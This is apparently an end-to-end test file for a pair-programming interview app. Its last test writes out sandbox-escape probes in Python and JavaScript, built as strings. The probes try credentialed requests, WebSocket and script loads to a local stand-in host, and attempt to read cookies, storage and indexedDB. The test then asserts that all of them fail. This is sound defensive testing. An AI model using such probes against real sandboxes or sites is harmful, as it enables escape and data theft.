import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expectAccessible } from '../fixtures/accessible.ts'
import type { Person } from '../fixtures/person.ts'
import { expect, test } from '../fixtures/test.ts'
import { createAccount } from '../screens/account.ts'
import { inviteLink, joinByName, startRound } from '../screens/lobby.ts'
import { planSession } from '../screens/planner.ts'
import { Room } from '../screens/room.ts'

const question = { level: 'L4', kind: 'Coding and algorithms', question: 'Play sessions per member' }
const solution = readFileSync(
  join(
    import.meta.dirname,
    '../../guides/netflix-data-engineer/questions/coding/play-sessions-per-member/solution.py',
  ),
  'utf8',
)
/** Python has to be loaded and started first, on a machine that starts a browser for each person too. */
const firstRun = { timeout: 60_000 }
/** The limit of a run and some time around it. */
const pastLimit = { timeout: 30_000 }

/** Ana interviews Ben, and the coding round is on. */
async function inRound(arrive: (name: string, width?: number) => Promise<Person>) {
  const ana = await arrive('Ana')
  const ben = await arrive('Ben')
  await ana.page.goto('/')
  await createAccount(ana.page, 'Ana', 'ana@example.test')
  await planSession(ana.page, question)
  await joinByName(ben.page, await inviteLink(ana.page, 'Candidate'), 'Ben')
  await startRound(ana.page)
  const rooms = { ana: new Room(ana.page), ben: new Room(ben.page) }
  await rooms.ana.isOpen()
  await rooms.ben.isOpen()
  return { ana, ben, rooms }
}

/** An answer of the question's name that returns a Python expression, after some lines. */
function returning(expression: string, lines: string[] = []): string {
  const body = [...lines, `return ${expression}`].map(line => `    ${line}`)
  return ['def play_sessions_per_member(lines):', ...body].join('\n')
}

test('Python runs for both people, case by case, and hidden cases are counted', async ({ arrive }) => {
  const { ana, ben, rooms } = await inRound(arrive)

  await test.step('an answer that is wrong shows where', async () => {
    await rooms.ben.write(returning('{"m1": len(lines)}', ['print("counting")']))
    await rooms.ben.runCode()
    for (const room of [rooms.ana, rooms.ben]) {
      await expect(room.codeResults.getByText('3 of 3 cases fail')).toBeVisible(firstRun)
      await expect(room.codeResults.getByRole('group', { name: 'Got' })).toHaveText('{ "m1": 6 }')
      await expect(room.codeResults.getByRole('group', { name: 'Expected' })).toHaveText(
        '{ "m1": 2, "m2": 1 }',
      )
      await expect(room.codeResults.getByRole('group', { name: 'Printed' })).toHaveText('counting')
    }
    await expectAccessible(ben.page, 'room with cases')
    await ben.page.emulateMedia({ colorScheme: 'dark' })
    await expectAccessible(ben.page, 'room with cases, dark')
  })

  await test.step('an error leads to its line', async () => {
    await rooms.ben.write('def play_sessions_per_member(lines):\n    return lines.nothing')
    await ben.page.keyboard.press('ControlOrMeta+Enter')
    await expect(rooms.ana.codeResults.getByText(/AttributeError/)).toBeVisible()
    await rooms.ana.codeResults.getByRole('button', { name: 'Go to line 2' }).click()
    await expect(rooms.ana.editor).toBeFocused()
    await rooms.ben.write('def play_sessions_per_member(lines)\n    pass')
    await rooms.ben.runCode()
    await expect(rooms.ana.codeResults.getByText(/SyntaxError/)).toBeVisible()
  })

  await test.step('the model answer passes, the hidden cases too, and only she may try those', async () => {
    await rooms.ben.write(solution)
    await rooms.ben.runCode()
    await expect(rooms.ana.codeResults.getByText('All 3 cases pass')).toBeVisible()
    await expect(ben.page.getByRole('button', { name: 'Try hidden cases' })).toHaveCount(0)
    await rooms.ana.codeResults.getByRole('button', { name: 'Try hidden cases' }).click()
    for (const room of [rooms.ana, rooms.ben]) {
      await expect(room.codeResults.getByText('4 of 4 hidden cases pass')).toBeVisible(firstRun)
    }
    expect(ben.wasSent('ids-that-join-alike')).toBe(false)
  })

  await test.step('every run is in the history', async () => {
    await rooms.ben.openTab('History')
    await expect(rooms.ben.codeResults.getByRole('listitem')).toHaveCount(5)
    await rooms.ben.codeResults
      .getByRole('button', { name: /Some cases fail/ })
      .last()
      .click()
    await expect(rooms.ben.codeResults.getByText(/An older run, by Ben/)).toBeVisible()
    await expect(rooms.ben.codeResults.getByText('3 of 3 cases fail')).toBeVisible()
  })
  expect([...ana.problems, ...ben.problems]).toEqual([])
})

test('an endless loop ends at its limit, by itself or by hand, and the next run works', async ({
  arrive,
}) => {
  const { rooms } = await inRound(arrive)
  const endless = returning('0', ['while True: pass'])
  await rooms.ben.write(endless)
  await rooms.ben.runCode()
  await expect(rooms.ana.codeResults.getByText('Ben is running the code')).toBeVisible(firstRun)
  await rooms.ana.type('\n# she still types')
  await rooms.ben.sees('she still types')
  await expect(rooms.ana.codeResults.getByText('Time limit: 10 s')).toBeVisible(pastLimit)

  await rooms.ben.write(endless)
  await rooms.ben.runCode()
  await rooms.ana.codeResults.getByRole('button', { name: 'Stop' }).click()
  await expect(rooms.ben.codeResults.getByText(/Ana stopped/)).toBeVisible()

  await rooms.ben.write(solution)
  await rooms.ben.runCode()
  await expect(rooms.ana.codeResults.getByText('All 3 cases pass')).toBeVisible()
})

test('code reaches neither us, nor anybody else, nor what this browser keeps', async ({ dryrun, arrive }) => {
  const elsewhere = await listen()
  const { ben, rooms } = await inRound(arrive)
  const asked: string[] = []
  await ben.context.route(/from-(code|page)/, route => {
    asked.push(route.request().url())
    return route.continue()
  })
  await ben.page.evaluate(() => fetch('/api/me?from-page'))
  expect(asked).toHaveLength(1)

  await test.step('from Python', async () => {
    const places = [`${dryrun.url}/api/me?from-code`, `${dryrun.url}/index.html?from-code`, elsewhere.url]
    await rooms.ben.write(attackInPython(places))
    await rooms.ben.runCode()
    const got = rooms.ben.codeResults.getByRole('group', { name: 'Got' })
    await expect(got).toBeVisible(firstRun)
    const outcomes = JSON.parse((await got.textContent()) ?? '') as Record<string, string>
    expect(outcomes['origin']).toBe('null')
    for (const place of places) expect(outcomes[place], place).toContain('NetworkError')
    expect(outcomes['script']).toContain('NetworkError')
    expect(outcomes['indexedDB']).toContain('SecurityError')
    for (const name of ['document', 'localStorage', 'caches', 'cookieStore']) {
      expect(outcomes[name], name).toBe('undefined')
    }
  })

  await test.step('from JavaScript', async () => {
    const attack = attackInJavaScript([`${dryrun.url}/api/me?from-code`, elsewhere.url])
    const outcomes = await ben.page.evaluate(runInFrame, attack)
    expect(outcomes).toEqual({
      origin: 'null',
      requests: ['NetworkError', 'NetworkError'],
      indexedDB: 'SecurityError',
      script: 'NetworkError',
      page: 'ReferenceError',
    })
  })

  expect(asked).toHaveLength(1)
  expect(elsewhere.asked).toEqual([])
  await fetch(elsewhere.url)
  expect(elsewhere.asked, 'it would have noticed').toEqual(['/'])
  await elsewhere.close()
})

/** A host that lets every page in, and writes down who came. */
async function listen() {
  const asked: string[] = []
  const server: Server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', request.headers.origin ?? '*')
    response.setHeader('Access-Control-Allow-Credentials', 'true').end('reached')
  })
  server.on('upgrade', (request, socket) => {
    asked.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  return { url, asked, close: () => new Promise(resolve => server.close(resolve)) }
}

function attackInPython(places: string[]): string {
  const lines = [
    'import js, time',
    'found = {"origin": js.Function.new("return self.origin")()}',
    'def attempt(name, act):',
    '    try:',
    '        found[name] = str(act())',
    '    except BaseException as error:',
    '        found[name] = str(error)',
    'def ask(place):',
    '    request = js.XMLHttpRequest.new()',
    '    request.open("GET", place, False)',
    '    request.withCredentials = True',
    '    request.send()',
    '    return request.responseText',
    `for place in ${JSON.stringify(places)}:`,
    '    attempt(place, lambda: ask(place))',
    '    js.fetch(place)',
    '    js.WebSocket.new(place.replace("http", "ws"))',
    `attempt("script", lambda: js.Function.new(${JSON.stringify(loadScript(places.at(-1) ?? ''))})())`,
    'from js import indexedDB',
    'attempt("indexedDB", lambda: indexedDB.open("dryrun"))',
    'for name in ("document", "localStorage", "caches", "cookieStore"):',
    '    found[name] = js.Function.new("return typeof " + name)()',
    // What was asked without waiting has left by then.
    'time.sleep(1)',
  ]
  return returning('found', lines)
}

/** A script of another host; Pyodide hides the function, not what it comes from. */
function loadScript(place: string): string {
  return `WorkerGlobalScope.prototype.importScripts.call(self, '${place}')`
}

function attackInJavaScript(places: string[]): string {
  return `function attack() {
    const named = act => { try { return String(act()) } catch (error) { return error.name } }
    const ask = place => named(() => {
      const request = new XMLHttpRequest()
      request.open('GET', place, false)
      request.send()
      return request.responseText
    })
    for (const place of ${JSON.stringify(places)}) {
      fetch(place, { credentials: 'include', mode: 'no-cors' }).catch(() => {})
      new BroadcastChannel('dryrun').postMessage('hello')
    }
    const end = performance.now() + 1000
    while (performance.now() < end);
    return {
      origin: self.origin,
      requests: ${JSON.stringify(places)}.map(ask),
      indexedDB: named(() => indexedDB.open('dryrun')),
      script: named(() => importScripts('${places.at(-1)}')),
      page: named(() => document.cookie),
    }
  }`
}

/** Runs JavaScript in the page, as a round in that language would: in our frame, by its messages. */
async function runInFrame(source: string): Promise<unknown> {
  const worker = await (await fetch('/runner/javascript-worker.js')).text()
  const frame = document.createElement('iframe')
  frame.sandbox.add('allow-scripts')
  frame.src = '/runner/index.html'
  const say = (words: object) => frame.contentWindow?.postMessage(words, '*')
  const ended = new Promise<{ run: { error: unknown; results: { value: unknown; error: unknown }[] } }>(
    resolve => {
      window.addEventListener('message', ({ source: from, data }) => {
        if (from !== frame.contentWindow || data.nonce !== 'of the test') return
        if (data.kind === 'greeted') {
          say({ kind: 'prepare', engine: 'javascript', parts: { worker, python: null } })
        }
        if (data.kind === 'ready') {
          const job = { language: 'javascript', source, entry: 'attack', cases: [[]] }
          say({ kind: 'run', id: 1, engine: 'javascript', job })
        }
        if (data.kind === 'ended') resolve(JSON.parse(data.end))
      })
    },
  )
  frame.addEventListener('load', () => say({ kind: 'greet', nonce: 'of the test' }))
  document.body.append(frame)
  const { run } = await ended
  frame.remove()
  return run.results[0]?.error ?? run.error ?? run.results[0]?.value
}
